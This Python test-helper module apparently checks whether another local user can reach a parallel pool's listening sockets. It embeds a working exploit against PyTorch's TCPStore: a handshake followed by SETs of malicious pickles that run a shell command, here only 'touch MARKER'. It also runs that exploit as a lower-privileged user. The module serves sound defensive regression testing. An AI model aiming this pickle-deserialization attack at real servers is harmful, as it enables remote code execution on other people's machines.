"""What another local user can reach of a parallel pool: the sockets its processes listen on, and the old attack on
them (torch's TCPStore handshake, then a SET of a pickle that would run a command in a worker)."""

from __future__ import annotations

import ipaddress
import os
import subprocess
from pathlib import Path

import psutil

NOBODY = 65534  # the attacker's uid where the tests run as root
# Plain python3 and sockets, as the audit's attacker: the store's VALIDATE (0) with its magic number, then SETs (1) of
# every job key a worker of the old pool could wait on (torch's client puts "/" before a key); each value a pickle
# whose __reduce__ runs `touch MARKER`.
ATTACK = r"""
import os, pickle, socket, struct, sys
marker, addresses = sys.argv[1], sys.argv[2:]
class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + marker,))
blob = pickle.dumps(Payload())
def text(data):
    return struct.pack("<Q", len(data)) + data
for address in addresses:
    host, port = address.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=5) as connection:
            connection.sendall(bytes([0]) + struct.pack("<I", 0x3C85F7CE))
            for number in range(1, 100):
                for rank in range(1, 8):
                    connection.sendall(bytes([1]) + text(f"/job/{rank}/{number}".encode()) + text(blob))
        print("sent", address)
    except OSError as error:
        print("refused", address, error)
"""


def listening(pids: list[int]) -> list[tuple[int, str, int]]:
    """``(pid, address, port)`` of every TCP socket the processes ``pids`` listen on."""
    found = []
    for pid in pids:
        for connection in psutil.Process(pid).net_connections("tcp"):
            if connection.status == psutil.CONN_LISTEN:
                found.append((pid, connection.laddr.ip, connection.laddr.port))
    return found


def beyond_loopback(sockets: list[tuple[int, str, int]]) -> list[tuple[int, str, int]]:
    """The listening sockets that another machine could reach (any address but 127.0.0.0/8 and ::1)."""
    return [s for s in sockets if not ipaddress.ip_address(s[1].split("%")[0]).is_loopback]


def as_another_user() -> None:
    """A subprocess's preexec: where the tests run as root, the attacker runs as nobody (no groups)."""
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


def attack(sockets: list[tuple[int, str, int]], marker: Path) -> str:
    """Send the old attack to every listening socket, as another user where the tests run as root; its output."""
    anywhere = {"0.0.0.0": "127.0.0.1", "::": "::1"}  # a socket on every interface: reached on the loopback
    addresses = [f"{anywhere.get(ip, ip)}:{port}" for _, ip, port in sockets]
    run = subprocess.run(["/usr/bin/python3", "-c", ATTACK, str(marker), *addresses], preexec_fn=as_another_user,
                         cwd="/", capture_output=True, text=True, timeout=120)
    return run.stdout + run.stderr


def can_open_as_another_user(path: str, mode: str) -> bool:
    """Whether another user (nobody, where the tests run as root; else this user) can open ``path``."""
    code = f"open({path!r}, {mode!r}).close()"
    run = subprocess.run(["/usr/bin/python3", "-c", code], preexec_fn=as_another_user, cwd="/", capture_output=True,
                         timeout=60)
    return run.returncode == 0
